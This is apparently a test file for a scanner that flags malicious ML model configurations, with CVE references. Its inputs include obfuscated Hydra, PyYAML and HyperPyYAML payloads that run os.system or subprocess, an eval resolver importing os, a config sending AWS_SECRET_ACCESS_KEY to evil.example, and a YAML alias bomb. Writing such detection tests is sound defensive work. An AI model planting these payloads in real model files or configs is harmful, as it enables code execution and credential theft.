import assert from 'node:assert/strict';
import { test } from 'node:test';
import { bytes } from '../../../../test/corpus/model-scanner/build-bytes.ts';
import { tar } from '../../../../test/corpus/model-scanner/build-tar.ts';
import { artefactOf, reportOf } from '../../../../test/corpus/model-scanner/read-artefact.ts';

/** An interpolation of omegaconf. */
const resolver = (text: string) => `\${${text}}`;
const report = (text: string, name = 'model_config.yaml') => reportOf(bytes(text), name);

test('plain YAML is no artefact', () => {
  const artefact = artefactOf(bytes('name: x\nlayers: 3\n'), 'values.yaml');
  assert.equal(artefact.role, null);
  assert.deepEqual(artefact.unread, []);
});

test('targets of known libraries are clean', () => {
  const text =
    'model:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n  optim: {_target_: torch.optim.AdamW, lr: 0.1, _partial_: true}\n';
  assert.equal(report(text).verdict, 'clean');
  assert.deepEqual(report(text).metadata, { targets: 2 });
});

test('CVE-2025-23304, CVE-2026-22584: a target that runs commands is proved wherever and however it is written', () => {
  for (const text of [
    'a:\n  _target_: os.system\n',
    'a: {"_target_": "subprocess.Popen", args: [id]}\n',
    "- _target_: 'builtins.eval'\n",
    'a:\n  _target_:\n    &x os.system\n',
    'a:\n  ? _target_\n  : os.system\n',
    'a:\n  "\\x5ftarget_": os.system\n',
    'a:\n  - b:\n      - c: {d: {_target_: os.system, _args_: [id]}}\n',
    'base: &b\n  _target_: os.system\na:\n  <<: *b\n',
    'a:\n  _target_: >-\n    os.system\n',
    'a:\n  _target_: os.path.os.system\n',
    'a:\n  _target_: os.system\n  _partial_: true\n',
  ]) {
    const { verdict, findings } = report(text);
    assert.equal(verdict, 'malicious', text);
    assert.ok(findings[0]?.references.includes('CVE-2025-23304'));
    assert.ok(findings[0]?.references.includes('CVE-2026-22584'));
  }
});

test('the finding names the line', () => {
  assert.equal(report('a: 1\nb:\n  c: 2\n  _target_: os.system\n').findings[0]?.where.line, 4);
});

test('the same in JSON, and inside a NeMo archive', () => {
  assert.equal(report('{"model": {"_target_": "os.system"}}', 'config.json').verdict, 'malicious');
  const nemo = tar([
    { name: './model_config.yaml', data: bytes('target: subprocess.Popen\nnemo_version: 1.23.0\n') },
    { name: './model_weights.ckpt', data: bytes('x') },
  ]);
  const found = reportOf(nemo, 'm.nemo').findings.find(({ evidence }) => evidence.includes('Popen'));
  assert.deepEqual(found?.where.containerPath, ['m.nemo', './model_config.yaml']);
});

test('an ordinary NeMo configuration is clean', () => {
  const text = `target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\nnemo_version: 1.23.0\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\ntokenizer:\n  dir: ${resolver('oc.env:HOME')}/tok\n`;
  assert.equal(report(text).verdict, 'clean');
});

test('functions that find others by text are followed', () => {
  const found = report('a:\n  _target_: hydra.utils.get_method\n  path: os.system\n');
  assert.ok(found.findings.some(({ evidence }) => evidence === 'os.system'));
  assert.equal(found.verdict, 'malicious');
});

test('a target of an unknown package is risky', () => {
  assert.equal(report('a:\n  _target_: acme.models.Net\n').verdict, 'risky');
});

test('class paths of command-line loaders are possible at most', () => {
  assert.equal(report('model:\n  class_path: os.system\n  init_args: {}\n').verdict, 'suspicious');
  assert.equal(report('model:\n  class_path: lightning.pytorch.demos.boring_classes.BoringModel\n  init_args: {}\n').verdict, 'clean');
});

test('CVE-2021-37678: Python tags are possible execution, in every way to write them; tuples are ordinary', () => {
  for (const text of [
    'a: !!python/object/apply:os.system ["id"]\n',
    'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n',
    '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["id"]\n',
    'a: !!python/name:os.system\n',
    'a: !!python/module:os\n',
  ]) {
    const { verdict, findings } = report(text, 'x.yaml');
    assert.equal(verdict, 'suspicious', text);
    assert.ok(findings[0]?.references.includes('CVE-2021-37678'));
  }
  assert.equal(report('a: !!python/tuple [1, 2]\nb: !!python/unicode x\n').verdict, 'clean');
});

test('HyperPyYAML tags are found and called on load', () => {
  assert.equal(report('a: !apply:os.system ["id"]\n', 'hyperparams.yaml').verdict, 'malicious');
  assert.equal(report('a: !new:subprocess.Popen\n  args: [id]\n', 'hyperparams.yaml').verdict, 'malicious');
  assert.equal(
    report(
      'a: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>\nb: !name:torch.nn.BatchNorm1d\n',
      'hyperparams.yaml',
    ).verdict,
    'clean',
  );
});

test('a secret of the environment inside an address is worth a word, a path is not', () => {
  const codes = (text: string) => artefactOf(bytes(text), 'conf.yaml').practices.map(({ code }) => code);
  assert.deepEqual(codes(`url: https://evil.example/?k=${resolver('oc.env:AWS_SECRET_ACCESS_KEY')}\n`), ['environment-in-address']);
  assert.deepEqual(codes(`path: ${resolver('oc.env:DATA_DIR')}/x\n`), []);
  assert.deepEqual(codes(`model: ${resolver(`oc.decode:${resolver('oc.env:MODEL')}`)}\n`), ['environment-decoded']);
});

test('Python for an evaluating resolver is possible execution, arithmetic is not', () => {
  assert.equal(report(`a: "${resolver("eval:'__import__(''os'').system(''id'')'")}"\n`, 'c.yaml').verdict, 'suspicious');
  assert.notEqual(report(`a: "${resolver(`eval:'${resolver('b')} * 2'`)}"\nb: 2\n`, 'c.yaml').verdict, 'suspicious');
});

test('a file that names objects and is no YAML we read is looked at by pattern and stays incomplete', () => {
  const { verdict, unread } = report('a:\n  _target_: torch.nn.Linear\n b: [\n', 'x.yaml');
  assert.equal(verdict, 'incomplete');
  assert.equal(unread.length, 1);
  assert.equal(report('a:\n  _target_: os.system\n b: [\n', 'x.yaml').verdict, 'malicious');
});

test('a target named in prose, in a comment or in a text is nothing', () => {
  assert.equal(artefactOf(bytes('Use `_target_: os.system` never.\n'), 'README.md').role, null);
  assert.deepEqual(artefactOf(bytes('# _target_: os.system\na: 1\n'), 'x.yaml').operators, []);
  assert.deepEqual(artefactOf(bytes('help: |\n  _target_: os.system\n'), 'x.yaml').operators, []);
});

test('an alias bomb ends without being expanded', () => {
  const lines = ['a0: &a0 [{_target_: torch.nn.Linear}]'];
  for (let i = 1; i < 30; i++) lines.push(`a${i}: &a${i} [${Array.from({ length: 9 }, () => `*a${i - 1}`).join(', ')}]`);
  const { findings, unread } = report(`${lines.join('\n')}\n`, 'x.yaml');
  assert.ok(findings.some(({ ruleId }) => ruleId === 'resource-bomb') || unread.length > 0);
});

test('a Fiddle configuration is judged by what it imports', () => {
  const fiddle = (module: string, name: string) =>
    JSON.stringify({
      root: { type: 'ref', key: 'a' },
      objects: {
        a: { type: { module: 'fiddle._src.config', name: 'Config' }, items: [], metadata: { fn_or_cls: { type: 'pyref', module, name } } },
        b: { type: { module: 'builtins', name: 'dict' }, items: [] },
      },
      refcounts: { a: 1, b: 1 },
      version: '0.0.1',
    });
  assert.equal(report(fiddle('nemo.collections.llm.gpt.model.llama', 'LlamaModel'), 'io.json').verdict, 'clean');
  assert.equal(report(fiddle('os', 'system'), 'io.json').verdict, 'malicious');
});
